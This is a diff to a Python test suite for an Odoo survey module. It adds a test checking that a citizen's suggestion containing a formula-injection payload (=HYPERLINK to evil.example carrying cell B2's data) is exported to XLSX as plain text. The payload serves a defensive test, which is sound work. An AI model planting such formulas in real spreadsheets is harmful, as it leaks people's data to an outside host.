@@ -1,5 +1,8 @@
+import io
 from datetime import timedelta
 from decimal import Decimal
+
+import openpyxl
 
 from odoo.exceptions import AccessError
 from odoo.exceptions import UserError
@@ -216,6 +219,17 @@ class TestSkmIkm(SkmCase):
         self.assertIn("Izin Usaha", rows[0])
         self.assertIn("Perempuan", rows[0])
         self.assertEqual(rows[0].count(4), 9)
+
+    def test_xlsx_export_writes_citizen_text_as_text(self):
+        """A suggestion that looks like a formula stays text in the export (no live HYPERLINK)."""
+        hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Klik di sini")'
+        user_input = self._respond([4] * 9, done=False)
+        suggestion = self.survey.question_ids.filtered(lambda q: q.skm_profile == "suggestion")
+        user_input._save_lines(suggestion, hostile)
+        user_input._mark_done()
+        book = openpyxl.load_workbook(io.BytesIO(self.population._skm_xlsx()))
+        cells = [cell for row in book["Jawaban"].iter_rows() for cell in row if cell.value == hostile]
+        self.assertEqual([cell.data_type for cell in cells], ["s"])
 
     def test_poster(self):
         html = self.env["ir.actions.report"]._render_qweb_html("sop_survey.report_skm_poster", self.unit.ids)[0]
